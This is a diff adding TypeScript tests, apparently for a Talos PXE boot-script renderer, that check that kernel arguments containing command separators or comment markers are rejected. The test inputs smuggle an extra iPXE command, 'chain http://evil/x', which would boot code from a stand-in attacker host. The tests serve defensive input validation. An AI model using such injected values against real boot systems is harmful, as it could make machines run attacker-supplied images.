@@ -64,3 +64,20 @@ describe('joinUrlPath (Go url.JoinPath)', () => {
     expect(joinUrlPath('http://h/p', 'image', '..', 'x')).toBe('http://h/p/x')
   })
 })
+
+describe('kernel arguments iPXE would not pass through', () => {
+  const render = (cmdline: string) =>
+    renderPxeScript({ baseUrl: 'http://h', schematicId: ID, versionTag: 'v1.12.0', platform: 'metal', arch: 'amd64', secureboot: false, cmdline })
+  test.each([
+    ['&&', 'command separator'],
+    ['||', 'command separator'],
+    [';', 'command separator'],
+    ['#x', 'comment'],
+    ['#', 'comment'],
+  ])('%s → 400 naming the argument (%s)', (token, what) => {
+    expect(() => render(`talos.platform=metal ${token} chain http://evil/x`)).toThrow(new RegExp(`${JSON.stringify(token).replace(/[|]/g, '\\|')}.*${what}`))
+  })
+  test.each(['a&&b', 'x||y', 'a;b', 'a#b', 'talos.config=http://h/c?uuid=${uuid}&mac=${net0/mac}', '-foo', '--autofree'])('%s passes as an argument', (arg) => {
+    expect(render(`talos.platform=metal ${arg}`)).toContain(` ${arg}\n`)
+  })
+})
